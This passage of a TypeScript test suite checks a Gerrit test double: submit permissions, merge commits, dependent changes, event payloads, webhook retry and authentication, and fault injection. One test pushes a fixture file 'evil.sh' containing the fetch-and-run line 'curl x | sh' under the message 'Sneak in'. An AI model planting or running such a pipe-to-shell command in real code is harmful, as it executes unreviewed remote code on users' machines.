    expect(await refusal()).toContain(`Change ${number}: blocked by Code-Review`);
    g.review(number, 'carol', { labels: { 'Code-Review': 0 } });
    expect((await ci.submit(P, number, 'current')).status).toBe('MERGED');
  });

  it('refuses without the Submit permission (403), and work in progress or closed changes (409)', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' }, wip: true });
    approve(g, number);
    await expect(client(g, 'alice').submit(P, number, 'current')).rejects.toThrow('not permitted: submit');
    expect(() => g.submitAs(number, 'ci')).toThrow(`Change ${number}: Change ${number} is work in progress`);
    g.setWip(number, 'alice', false);
    g.submitAs(number, 'ci');
    try {
      g.submitAs(number, 'ci');
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(GerritDoubleError);
      expect([(e as GerritDoubleError).status, (e as Error).message]).toEqual([409, 'change is merged']);
    }
    const other = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' } });
    g.upload({ project: P, owner: 'alice', change: other.number, files: { 'b.txt': 'B2\n' } });
    const res = await raw(g, `/a/changes/${other.number}/revisions/1/submit`, { as: 'ci', method: 'POST' });
    expect([res.status, res.text]).toEqual([409, `revision ${other.sha} is not current revision\n`]);
  });

  it('fast-forwards the branch, answers the merged change, and announces ref-updated then change-merged', async () => {
    const g = await start();
    const old = g.branchTip(P);
    const up = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    approve(g, up.number);
    expect(await client(g, 'ci').submit(P, up.number, up.sha)).toMatchObject({ status: 'MERGED' });
    const merged = (await client(g, 'ci').change(P, up.number, []))!;
    expect(merged).toMatchObject({ status: 'MERGED', _number: up.number, submitter: { _account_id: 1000003 } });
    expect(merged.submitted).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{9}$/);
    expect(g.branchTip(P)).toBe(up.sha);
    expect((await client(g, 'builder').branch(P, 'master'))?.revision).toBe(up.sha);
    expect(g.changeState(up.number)).toMatchObject({ status: 'MERGED', submitter: 'ci' });
    const tail = g.events.slice(-2).map((e) => e.body as Record<string, unknown>);
    expect(tail.map((e) => e.type)).toEqual(['ref-updated', 'change-merged']);
    expect(tail[0]).toMatchObject({ submitter: { username: 'ci' }, refUpdate: { oldRev: old, newRev: up.sha, refName: 'refs/heads/master', project: P } });
    expect(tail[1]).toMatchObject({ submitter: { username: 'ci' }, newRev: up.sha, change: { status: 'MERGED', number: up.number }, patchSet: { number: 1, revision: up.sha } });
  });

  it('writes a merge commit, by the server for the submitter, when the branch moved on', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', subject: 'Add a', files: { 'a.txt': 'A\n' } });
    const moved = g.directPush(P, 'master', { 'b.txt': 'B\n' });
    approve(g, up.number);
    g.submitAs(up.number, 'bob');
    const tip = g.branchTip(P);
    const commit = (await client(g, 'bob').change(P, up.number, ['CURRENT_REVISION'])) as ChangeInfo;
    expect(commit.status).toBe('MERGED');
    const { execFileSync } = await import('node:child_process');
    const show = (fmt: string): string => execFileSync('git', ['--git-dir', g.gitUrl(P), 'log', '-1', `--format=${fmt}`, tip], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' } }).trim();
    expect(show('%P')).toBe(`${moved} ${up.sha}`);
    expect(show('%B')).toBe('Merge "Add a"');
    expect(show('%cn <%ce>')).toBe('Gerrit Code Review <gerrit@localhost>');
    expect(show('%an')).toBe('Bob Maintainer');
    const files = execFileSync('git', ['--git-dir', g.gitUrl(P), 'ls-tree', '--name-only', tip], { encoding: 'utf8' }).trim().split('\n');
    expect(files).toEqual(['README.md', 'a.txt', 'app.txt', 'b.txt']);
    expect(ofType(g, 'change-merged')[0]?.newRev).toBe(tip);
  });

  it('submits an approved open parent change together with its child', async () => {
    const g = await start();
    const a = g.upload({ project: P, owner: 'alice', subject: 'Parent', files: { 'a.txt': 'A\n' } });
    const b = g.upload({ project: P, owner: 'alice', subject: 'Child', files: { 'b.txt': 'B\n' }, parent: a.sha });
    approve(g, a.number);
    approve(g, b.number);
    g.directPush(P, 'master', { 'c.txt': 'C\n' });
    g.submitAs(b.number, 'ci');
    expect([g.changeState(a.number).status, g.changeState(b.number).status]).toEqual(['MERGED', 'MERGED']);
    const merged = ofType(g, 'change-merged');
    expect(merged.map((e) => get(e, 'change', 'number'))).toEqual([a.number, b.number]);
    const { execFileSync } = await import('node:child_process');
    const message = execFileSync('git', ['--git-dir', g.gitUrl(P), 'log', '-1', '--format=%B', g.branchTip(P)], { encoding: 'utf8' }).trim();
    expect(message).toBe(`Merge changes ${b.changeId.slice(0, 9)},${a.changeId.slice(0, 9)}\n\n* changes:\n  Child\n  Parent`);
  });

  it('refuses when the parent change is not approved, and merges nothing', async () => {
    const g = await start();
    const tip = g.branchTip(P);
    const a = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const b = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' }, parent: a.sha });
    g.review(a.number, 'bob', { labels: { 'Code-Review': 2 } });
    approve(g, b.number);
    await expect(client(g, 'ci').submit(P, b.number, 'current')).rejects.toThrow(`Failed to submit 2 changes due to the following problems:\nChange ${a.number}: needs Verified`);
    expect(g.branchTip(P)).toBe(tip);
    expect([g.changeState(a.number).status, g.changeState(b.number).status]).toEqual(['NEW', 'NEW']);
    expect(ofType(g, 'change-merged')).toEqual([]);
  });

  it('refuses a parent commit that is an outdated patch set, naming it', async () => {
    const g = await start();
    const a = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const b = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' }, parent: a.sha });
    g.upload({ project: P, owner: 'alice', change: a.number, files: { 'a.txt': 'A2\n' } });
    approve(g, a.number);
    approve(g, b.number);
    await expect(client(g, 'ci').submit(P, b.number, 'current')).rejects.toThrow(
      `Failed to submit 2 changes due to the following problems:\nChange ${b.number}: Depends on commit that cannot be merged. Commit ${b.sha} depends on commit ${a.sha}, which is outdated patch set 1 of change ${a.number}. The latest patch set is 2.`,
    );
    expect(g.changeState(a.number).status).toBe('NEW');
  });

  it('refuses a parent commit that belongs to no change', async () => {
    const g = await start();
    const stray = g.writeCommit(P, { 's.txt': 'S\n' }, { message: 'Stray\n' });
    const b = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' }, parent: stray });
    approve(g, b.number);
    expect(() => g.submitAs(b.number, 'ci')).toThrow(`Change ${b.number}: Depends on commit that cannot be merged. Commit ${b.sha} depends on commit ${stray} which cannot be merged. Is the change of this commit not visible to 'ci' or was it deleted?`);
  });

  it('a change that conflicts with the branch is a 409 path conflict', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', files: { 'app.txt': 'one\nTWO\nthree\n' } });
    g.directPush(P, 'master', { 'app.txt': 'one\n2\nthree\n' });
    approve(g, up.number);
    const e: unknown = await client(g, 'ci').submit(P, up.number, 'current').catch((x: unknown) => x);
    expect((e as ReviewRefusedError).status).toBe(409);
    expect((e as Error).message).toContain(
      `Failed to submit 1 change due to the following problems:\nChange ${up.number}: Change could not be merged due to a path conflict. Please rebase the change locally and upload the rebased commit for review.`,
    );
    expect(g.changeState(up.number).status).toBe('NEW');
  });
});

describe('events and state changes', () => {
  it('patchset-created as the webhooks plugin posts it, after the ref-updated of its patch set ref', async () => {
    const hook = await receiver();
    const g = await start({ webhooks: [{ url: hook.url }], canonicalWebUrl: 'https://review.example.org' });
    const tip = g.branchTip(P);
    const up = g.upload({ project: P, owner: 'alice', subject: 'Fix a=b <now>', files: { 'app.txt': 'one\n2\nthree\nfour\n' }, topic: 'fixes' });
    await g.settle();
    expect(hook.got.map((r) => r.json.type)).toEqual(['ref-updated', 'patchset-created']);
    const [ref, created] = hook.got;
    expect(ref?.json).toEqual({ submitter: { name: 'Alice Author', email: 'alice@example.com', username: 'alice' }, refUpdate: { oldRev: '0'.repeat(40), newRev: up.sha, refName: up.ref, project: P }, type: 'ref-updated', eventCreatedOn: expect.any(Number) });
    expect(created?.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(created?.headers['x-origin-url']).toBe('https://review.example.org/');
    expect(created?.headers.authorization).toBeUndefined();
    expect(created?.body).toContain('Fix a\\u003db \\u003cnow\\u003e'); // Gson's HTML-safe escapes
    const alice = { name: 'Alice Author', email: 'alice@example.com', username: 'alice' };
    expect(created?.json).toEqual({
      uploader: alice,
      patchSet: { number: 1, revision: up.sha, parents: [tip], ref: up.ref, uploader: alice, createdOn: expect.any(Number), author: alice, kind: 'REWORK', sizeInsertions: 2, sizeDeletions: 1 },
      change: {
        project: P,
        branch: 'master',
        topic: 'fixes',
        id: up.changeId,
        number: up.number,
        subject: 'Fix a=b <now>',
        owner: alice,
        url: `https://review.example.org/c/${P}/+/${up.number}`,
        commitMessage: `Fix a=b <now>\n\nChange-Id: ${up.changeId}\n`,
        createdOn: expect.any(Number),
        status: 'NEW',
      },
      project: { name: P },
      refName: 'refs/heads/master',
      changeKey: { key: up.changeId },
      type: 'patchset-created',
      eventCreatedOn: expect.any(Number),
    });
    expect(Math.abs(Number(created?.json.eventCreatedOn) - Date.now() / 1000)).toBeLessThan(60);
    expect(g.posted.map((p) => [p.type, p.delivered, p.attempts])).toEqual([
      ['ref-updated', true, 1],
      ['patchset-created', true, 1],
    ]);
  });

  it('abandon, restore, work in progress and private: events, flags and refusals', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    expect(() => g.abandon(number, 'builder')).toThrow('not permitted: abandon');
    g.abandon(number, 'alice', 'superseded');
    expect(() => g.abandon(number, 'alice')).toThrow('change is abandoned');
    g.restore(number, 'bob');
    expect(() => g.restore(number, 'bob')).toThrow('change is new');
    g.setWip(number, 'alice', true);
    expect(() => g.setWip(number, 'alice', true)).toThrow('change is already work in progress');
    expect(() => g.setWip(number, 'bob', false)).toThrow('not allowed to toggle work in progress');
    g.setPrivate(number, 'alice', true);
    expect(() => g.setPrivate(number, 'bob', false)).toThrow(GerritDoubleError); // bob cannot even see it
    const types = g.events.slice(1).map((e) => e.type);
    expect(types).toEqual(['patchset-created', 'change-abandoned', 'change-restored', 'wip-state-changed', 'private-state-changed']);
    expect(ofType(g, 'change-abandoned')[0]).toMatchObject({ abandoner: { username: 'alice' }, reason: 'superseded', change: { status: 'ABANDONED' }, patchSet: { number: 1 } });
    expect(ofType(g, 'change-restored')[0]).toMatchObject({ restorer: { username: 'bob' }, change: { status: 'NEW' } });
    expect(ofType(g, 'change-restored')[0]).not.toHaveProperty('reason');
    expect(get(ofType(g, 'change-restored')[0], 'change')).not.toHaveProperty('wip');
    expect(ofType(g, 'wip-state-changed')[0]).toMatchObject({ changer: { username: 'alice' }, change: { wip: true } });
    expect(get(ofType(g, 'wip-state-changed')[0], 'change')).not.toHaveProperty('private');
    expect(ofType(g, 'private-state-changed')[0]).toMatchObject({ changer: { username: 'alice' }, change: { wip: true, private: true } });
    const alice = client(g, 'alice');
    const ready = await raw(g, `/a/changes/${number}/ready`, { as: 'alice', method: 'POST' });
    expect(ready.status).toBe(200);
    const unprivate = await raw(g, `/a/changes/${number}/private`, { as: 'alice', method: 'DELETE' });
    expect(unprivate.status).toBe(204);
    expect(await alice.change(P, number, [])).not.toHaveProperty('work_in_progress');
    expect(g.changeState(number)).toMatchObject({ wip: false, private: false, status: 'NEW' });
  });

  it('directPush announces ref-updated and closes a change whose commit it made reachable', async () => {
    const g = await start();
    const old = g.branchTip(P);
    const up = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const pushed = g.directPush(P, 'master', { 'evil.sh': 'curl x | sh\n' }, { parent: up.sha, as: 'builder', message: 'Sneak in\n' });
    expect(g.branchTip(P)).toBe(pushed);
    const [ref, merged] = g.events.slice(-2).map((e) => e.body as Record<string, unknown>);
    expect(ref).toMatchObject({ type: 'ref-updated', submitter: { username: 'builder' }, refUpdate: { oldRev: old, newRev: pushed, refName: 'refs/heads/master' } });
    expect(merged).toMatchObject({ type: 'change-merged', newRev: pushed, submitter: { username: 'builder' }, change: { number: up.number, status: 'MERGED' } });
    expect(g.changeState(up.number).status).toBe('MERGED');
    const anonymousPush = g.directPush(P, 'master', { 'x.txt': 'x\n' });
    expect(g.events.at(-1)?.body).not.toHaveProperty('submitter');
    expect(g.branchTip(P)).toBe(anonymousPush);
  });

  it('updated increases with every modification and matches the events eventCreatedOn', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const bob = client(g, 'bob');
    const seen: string[] = [];
    const step = async (f: () => void): Promise<void> => {
      f();
      const info = await bob.change(P, number, []);
      seen.push(info?.updated ?? '');
      expect(Math.floor(parseGerritTime(info?.updated ?? '') / 1000)).toBe(g.events.at(-1)?.body && get(g.events.at(-1)?.body, 'eventCreatedOn'));
    };
    await step(() => g.review(number, 'bob', { labels: { 'Code-Review': 1 } }));
    await step(() => g.review(number, 'bob', { labels: { 'Code-Review': 2 } }));
    await step(() => g.upload({ project: P, owner: 'alice', change: number, files: { 'a.txt': 'B\n' } }));
    await step(() => g.setWip(number, 'alice', true));
    await step(() => g.abandon(number, 'alice'));
    expect([...seen].sort()).toEqual(seen);
    expect(new Set(seen).size).toBe(seen.length);
  });
});

describe('webhook delivery', () => {
  it('reschedules a failed delivery after retryInterval until it succeeds, without holding back later events', async () => {
    let failures = 2;
    const hook = await receiver((r) => (get(r.json, 'change', 'number') === 1 && failures-- > 0 ? 404 : 200));
    const g = await start({ webhooks: [{ url: hook.url, events: ['patchset-created'], maxTries: 5, retryIntervalMs: 100 }] });
    const first = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const second = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' } });
    expect(first.number).toBe(1);
    await g.settle();
    const order = hook.got.map((r) => get(r.json, 'change', 'number'));
    expect(order.slice(2)).toEqual([first.number, first.number]); // the second event went out in between
    expect(order.slice(0, 2).sort()).toEqual([first.number, second.number].sort());
    expect(g.posted.map((p) => [get(p.body, 'change', 'number'), p.delivered, p.attempts])).toEqual([
      [first.number, true, 3],
      [second.number, true, 1],
    ]);
    expect(new Set(hook.got.filter((r) => get(r.json, 'change', 'number') === 1).map((r) => r.body)).size).toBe(1); // a retry resends the same bytes
  });

  it('a 5xx answer is also repeated inside one try by the HTTP client; maxTries bounds both', async () => {
    const hook = await receiver(() => 503);
    const g = await start({ webhooks: [{ url: hook.url, events: ['change-abandoned'], maxTries: 2, retryIntervalMs: 20 }] });
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    g.abandon(number, 'alice');
    await g.settle();
    expect(g.posted).toHaveLength(1);
    expect(g.posted[0]).toMatchObject({ type: 'change-abandoned', delivered: false, attempts: 6 }); // (maxTries + 1) × maxTries
    expect(hook.got).toHaveLength(6);
  });

  it('network errors are retried, and given up after maxTries', async () => {
    const gone = await receiver();
    await gone.close();
    const g = await start({ webhooks: [{ url: gone.url, maxTries: 3, retryIntervalMs: 10 }] });
    g.directPush(P, 'master', { 'x.txt': 'x\n' });
    await g.settle();
    expect(g.posted.map((p) => [p.type, p.delivered, p.attempts])).toEqual([['ref-updated', false, 3]]);
  });

  it('only success codes 200, 201, 202 and 204 count as delivered', async () => {
    const codes = [203, 302, 202];
    const hook = await receiver((_r, i) => codes[i] ?? 200);
    const g = await start({ webhooks: [{ url: hook.url, maxTries: 5, retryIntervalMs: 10 }] });
    g.directPush(P, 'master', { 'x.txt': 'x\n' });
    await g.settle();
    expect(g.posted.map((p) => [p.delivered, p.attempts])).toEqual([[true, 3]]);
  });

  it('sends the credentials in the URL only after a Basic challenge', async () => {
    const challenged = await receiver((r) => (r.headers.authorization === `Basic ${Buffer.from('airlock:s3cret').toString('base64')}` ? 200 : { status: 401, headers: { 'WWW-Authenticate': 'Basic realm="airlock"' } }));
    const silent = await receiver((r) => (r.headers.authorization ? 200 : 401));
    const withUser = (u: string): string => u.replace('http://', 'http://airlock:s3cret@');
    const g = await start({ webhooks: [{ url: withUser(challenged.url), maxTries: 2, retryIntervalMs: 10 }, { url: withUser(silent.url), maxTries: 2, retryIntervalMs: 10 }] });
    g.directPush(P, 'master', { 'x.txt': 'x\n' });
    await g.settle();
    expect(challenged.got.map((r) => r.headers.authorization === undefined)).toEqual([true, false]);
    expect(challenged.got[0]?.headers.host).toBe(new URL(challenged.url).host);
    expect(silent.got.map((r) => r.headers.authorization)).toEqual([undefined, undefined]);
    expect(g.posted.map((p) => [p.delivered, p.attempts])).toEqual([
      [true, 2],
      [false, 2],
    ]);
  });

  it('pauseWebhooks drops or holds events, resumeWebhooks sends what was held', async () => {
    const hook = await receiver();
    const g = await start({ webhooks: [{ url: hook.url, events: ['patchset-created'] }] });
    g.pauseWebhooks({ drop: true });
    const lost = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    g.pauseWebhooks({ drop: false });
    const held = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' } });
    await g.settle();
    expect(hook.got).toEqual([]);
    await g.resumeWebhooks();
    expect(hook.got.map((r) => get(r.json, 'change', 'number'))).toEqual([held.number]);
    expect(g.posted.map((p) => [get(p.body, 'change', 'number'), p.delivered, p.dropped ?? false])).toEqual([
      [lost.number, false, true],
      [held.number, true, false],
    ]);
  });
});

describe('faults, branches and groups', () => {
  it('failNext makes the next requests fail with 503, 500 or a connection reset, optionally by path prefix', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const bob = client(g, 'bob');
    g.failNext(1, 'http-503');
    await expect(bob.change(P, number, [])).rejects.toBeInstanceOf(ReviewUnavailableError);
    expect((await bob.change(P, number, []))?._number).toBe(number);
    g.failNext(1, 'reset');
    await expect(bob.self()).rejects.toBeInstanceOf(ReviewUnavailableError);
    g.failNext(2, 'http-500', '/projects/');
    expect((await bob.change(P, number, []))?._number).toBe(number);
    await expect(bob.branch(P, 'master')).rejects.toThrow('answered 500');
    await expect(bob.branch(P, 'master')).rejects.toThrow('answered 500');
    expect((await bob.branch(P, 'master'))?.revision).toBe(g.branchTip(P));
    expect(g.requests.filter((r) => r.status >= 500 || r.status === 0).map((r) => [r.path.split('/')[1], r.status])).toEqual([
      ['changes', 503],
      ['accounts', 0],
      ['projects', 500],
      ['projects', 500],
    ]);
  });

  it('reads a branch by short or full name; a missing one is undefined (404)', async () => {
    const g = await start();
    const builder = client(g, 'builder');
    const tip = g.branchTip(P);
    expect(await builder.branch(P, 'master')).toEqual({ ref: 'refs/heads/master', revision: tip });
    expect(await builder.branch(P, 'refs/heads/master')).toEqual({ ref: 'refs/heads/master', revision: tip });
    expect(await builder.branch(P, 'nope')).toBeUndefined();
    expect((await raw(g, '/a/projects/team%2Fapp/branches/nope', { as: 'builder' })).text).toBe('Not found: nope\n');
    expect(await builder.branch('missing', 'master')).toBeUndefined();
  });

  it("lists a group's members as detailed accounts; unknown groups are 404, system groups 405", async () => {
    const g = await start();
    const builder = client(g, 'builder');
    expect(await builder.groupMembers('Maintainers')).toEqual([
      { _account_id: 1000002, name: 'Bob Maintainer', email: 'bob@example.com', username: 'bob' },
      { _account_id: 1000006, name: 'Carol Maintainer', email: 'carol@example.com', username: 'carol' },
    ]);
    await expect(builder.groupMembers('Nobody')).rejects.toMatchObject({ status: 404 });
    await expect(builder.groupMembers('Registered Users')).rejects.toMatchObject({ status: 405 });
  });
});
